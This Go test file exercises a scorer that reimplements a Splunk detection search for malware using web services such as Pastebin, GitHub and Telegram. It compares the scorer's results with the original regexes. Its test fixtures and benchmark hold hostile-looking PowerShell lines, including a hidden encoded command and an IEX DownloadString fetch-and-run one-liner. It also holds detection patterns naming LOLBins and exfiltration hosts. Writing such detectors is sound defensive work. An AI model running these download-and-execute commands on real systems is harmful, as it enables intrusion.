package legacy

import (
	"github.com/t1102app/t1102/src/detect"
	"github.com/t1102app/t1102/src/internal/fold"

	"math/rand"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestLegacyScorer(t *testing.T) {
	tests := []struct {
		name   string
		reason string
		ev     Event
		want   Result
	}{
		{
			name:   "atomic pastebin",
			reason: "PowerShell to Pastebin with -enc: the case the SPL was written for",
			ev: ev("3", "pastebin.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"powershell.exe -nop -w hidden -enc SQBFAFgA", `C:\Windows\explorer.exe`),
			want: Result{Service: "pastebin", Suspicious: true, Encoded: true, Score: 2, Pass: true},
		},
		{
			name:   "service spawn",
			reason: "scheduled task host parent adds one",
			ev: ev("3", "raw.githubusercontent.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"powershell iwr https://raw.githubusercontent.com/x", `C:\Windows\System32\svchost.exe`),
			want: Result{Service: "github", Suspicious: true, ServiceSpawn: true, Score: 2, Pass: true},
		},
		{
			name:   "office parent",
			reason: "Word spawning cmd",
			ev:     ev("3", "discord.com", `C:\Windows\System32\cmd.exe`, "", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
			want:   Result{Service: "discord", Suspicious: true, OfficeParent: true, Score: 2, Pass: true},
		},
		{
			name:   "x.com inside dropbox.com",
			reason: "the SPL's unanchored x\\.com matches dropbox.com: kept on purpose, this is the baseline",
			ev:     ev("3", "www.dropbox.com", `C:\Windows\System32\curl.exe`, "", ""),
			want:   Result{Service: "twitter", Suspicious: true, Score: 1, Pass: true},
		},
		{
			name:   "t.me inside smart.meraki.com",
			reason: "unanchored t\\.me",
			ev:     ev("3", "smart.meraki.com", `C:\Python\python.exe`, "", ""),
			want:   Result{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
		},
		{
			name:   "cmd.exe inside dcmd.exe",
			reason: "unanchored cmd\\.exe",
			ev:     ev("3", "gitlab.com", `C:\tools\dcmd.exe`, "", ""),
			want:   Result{Service: "gitlab", Suspicious: true, Score: 1, Pass: true},
		},
		{
			name:   "case order",
			reason: "case() takes the first branch in the SPL's order, not the first position in the string: github before reddit",
			ev:     ev("3", "reddit.com.github.com", `C:\node.exe`, "", ""),
			want:   Result{Service: "github", Suspicious: true, Score: 1, Pass: true},
		},
		{
			name:   "other event code",
			reason: "rows that are not EventCode 3 get fields but never pass",
			ev:     ev("1", "pastebin.com", `C:\Windows\System32\cmd.exe`, "", ""),
			want:   Result{Service: "pastebin", Suspicious: true, Score: 1},
		},
		{
			name:   "no service",
			reason: "the first where clause drops it",
			ev:     ev("3", "example.org", `C:\Windows\System32\cmd.exe`, "", ""),
			want:   Result{Suspicious: true, Score: 1},
		},
		{
			name:   "not suspicious",
			reason: "the second where clause drops it",
			ev:     ev("3", "github.com", `C:\Program Files\Git\mingw64\bin\git-remote-https.exe`, "", ""),
			want:   Result{Service: "github"},
		},
		{
			name:   "enc with tab",
			reason: "-enc\\s: any PCRE whitespace, a tab too",
			ev:     ev("3", "t.me", `C:\pwsh.exe`, "pwsh -enc\tAAAA", ""),
			want:   Result{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
		},
		{
			name:   "enc at the end",
			reason: "-enc with nothing after it does not match -enc\\s",
			ev:     ev("3", "t.me", `C:\pwsh.exe`, "pwsh -enc", ""),
			want:   Result{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
		},
		{
			name:   "encoded mixed case",
			reason: "CommandLine is lowered before matching",
			ev:     ev("3", "t.me", `C:\pwsh.exe`, "[Convert]::FromBase64String($x)", ""),
			want:   Result{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
		},
		{
			name:   "absent fields",
			reason: "missing fields match nothing",
			ev:     Event{},
			want:   Result{},
		},
		{
			name:   "unicode lower",
			reason: "SPL's lower() is Unicode: the Kelvin sign lowers to an ASCII k",
			ev:     ev("3", "doc.google.com", `C:\\x\\wmic.exe`, "", "C:\\TAS\u212AENG.EXE"),
			want:   Result{Suspicious: true, ServiceSpawn: true, Score: 2},
		},
	}
	var s Scorer
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			got := s.Score(tt.ev)
			require.Equal(t, strings.ToLower(string(tt.ev.DestinationHostname)), string(got.DestHost))
			got.DestHost, got.InitiatingImage = nil, nil
			require.Equal(t, tt.want, got)
		})
	}
}

func ev(code, host, image, cmd, parent string) Event {
	return Event{[]byte(code), []byte(host), []byte(image), []byte(cmd), []byte(parent)}
}

// The SPL's own regular expressions, copied from the original search, are
// an independent oracle for the hand-written matching. RE2's \s lacks the
// vertical tab that PCRE's has, so the oracle spells the class out.
var (
	oracleServices = []struct {
		category string
		re       *regexp.Regexp
	}{
		{"twitter", regexp.MustCompile(`(twitter\.com|x\.com|api\.twitter\.com|api\.x\.com)`)},
		{"github", regexp.MustCompile(`(github\.com|raw\.githubusercontent\.com|gist\.github\.com)`)},
		{"gitlab", regexp.MustCompile(`(gitlab\.com)`)},
		{"telegram", regexp.MustCompile(`(api\.telegram\.org|t\.me)`)},
		{"pastebin", regexp.MustCompile(`(pastebin\.com|paste\.ee|hastebin\.com|pastecode\.io)`)},
		{"discord", regexp.MustCompile(`(discord\.com|discordapp\.com)`)},
		{"google_services", regexp.MustCompile(`(docs\.google\.com|drive\.google\.com|googleapis\.com)`)},
		{"reddit", regexp.MustCompile(`(reddit\.com|redd\.it)`)},
		{"other_webservice", regexp.MustCompile(`(notion\.so|trello\.com|digitalpoint\.com)`)},
		{"microsoft_personal", regexp.MustCompile(`(onedrive\.live\.com|sharepoint\.com)`)},
	}
	oracleSuspicious = regexp.MustCompile(`(powershell\.exe|pwsh\.exe|cmd\.exe|wscript\.exe|cscript\.exe|mshta\.exe|rundll32\.exe|regsvr32\.exe|certutil\.exe|curl\.exe|wget\.exe|bitsadmin\.exe|python\.exe|python3\.exe|ruby\.exe|node\.exe|wmic\.exe|msbuild\.exe)`)
	oracleEncoded    = regexp.MustCompile(`(-encodedcommand|-enc[\t\n\v\f\r ]|frombase64string|base64)`)
	oracleOffice     = regexp.MustCompile(`(winword\.exe|excel\.exe|powerpnt\.exe|outlook\.exe|onenote\.exe|msaccess\.exe|acrord32\.exe|acrobat\.exe)`)
	oracleService    = regexp.MustCompile(`(svchost\.exe|taskeng\.exe|taskhostw\.exe|services\.exe|wmiprvse\.exe)`)
)

func oracle(e Event) Result {
	host := strings.ToLower(string(e.DestinationHostname))
	var r Result
	for _, s := range oracleServices {
		if s.re.MatchString(host) {
			r.Service = s.category
			break
		}
	}
	r.Suspicious = oracleSuspicious.MatchString(strings.ToLower(string(e.Image)))
	r.Encoded = oracleEncoded.MatchString(strings.ToLower(string(e.CommandLine)))
	parent := strings.ToLower(string(e.ParentImage))
	r.OfficeParent = oracleOffice.MatchString(parent)
	r.ServiceSpawn = oracleService.MatchString(parent)
	r.Score = detect.B2I(r.Suspicious) + detect.B2I(r.Encoded) + detect.B2I(r.OfficeParent) + detect.B2I(r.ServiceSpawn)
	r.Pass = strings.TrimSpace(string(e.EventCode)) == "3" && r.Service != "" && r.Suspicious
	return r
}

// TestLegacyMatchesSPLRegexes compares the scorer with the SPL's regexes on
// random events assembled from pattern fragments, look-alikes and noise.
func TestLegacyMatchesSPLRegexes(t *testing.T) {
	pieces := []string{"github.com", "GitHub.Com", "x.co", "x.com", "t.me", "t.m", ".", "-", "\\", "c:\\windows\\",
		"powershell.exe", "pwsh.ex", "cmd.exe", "-enc", "-enc ", "-ENC\t", "-enc\v", "-encodedcommand", "base64", "base6",
		"frombase64string", "svchost.exe", "taskhostw.exe", "winword.exe", "WINWORD.EXE", "acrord32.exe", "paste.ee",
		"api.telegram.org", "sharepoint.com", "redd.it", "notion.so", "googleapis.com", "é", "K", "a", " ", "3", "1",
		"BASE64", "Base6", "-Enc ", "-EnCodedCommand", "PowerShell.EXE", ".Exe", "SVCHOST.exe", "\u212A", "taskeng.", "6", "4", "-"}
	rng := rand.New(rand.NewSource(1))
	gen := func() []byte {
		var b strings.Builder
		for n := rng.Intn(6); n > 0; n-- {
			b.WriteString(pieces[rng.Intn(len(pieces))])
		}
		return []byte(b.String())
	}
	var s Scorer
	for i := 0; i < 20000; i++ {
		e := Event{gen(), gen(), gen(), gen(), gen()}
		if rng.Intn(2) == 0 {
			e.EventCode = []byte("3")
		}
		got := s.Score(e)
		got.DestHost, got.InitiatingImage = nil, nil
		require.Equal(t, oracle(e), got, "event %q", e)
	}
}

func BenchmarkLegacyScorer(b *testing.B) {
	e := ev("3", "raw.githubusercontent.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/main/z.ps1')"`,
		`C:\Windows\System32\svchost.exe`)
	var s Scorer
	b.ReportAllocs()
	for b.Loop() {
		s.Score(e)
	}
}

func TestLower(t *testing.T) {
	var all []byte
	for c := 0; c < 128; c++ {
		all = append(all, byte(c))
	}
	for _, s := range []string{"", "A", "Hello, WORLD! @[`{", string(all), string(all[3:]), "ÀÉ KELVIN \u212A", "abcdefgH\u212A"} {
		require.Equal(t, strings.ToLower(s), string(fold.Lower([]byte("keep:"), []byte(s))[5:]), "%q", s)
	}
}
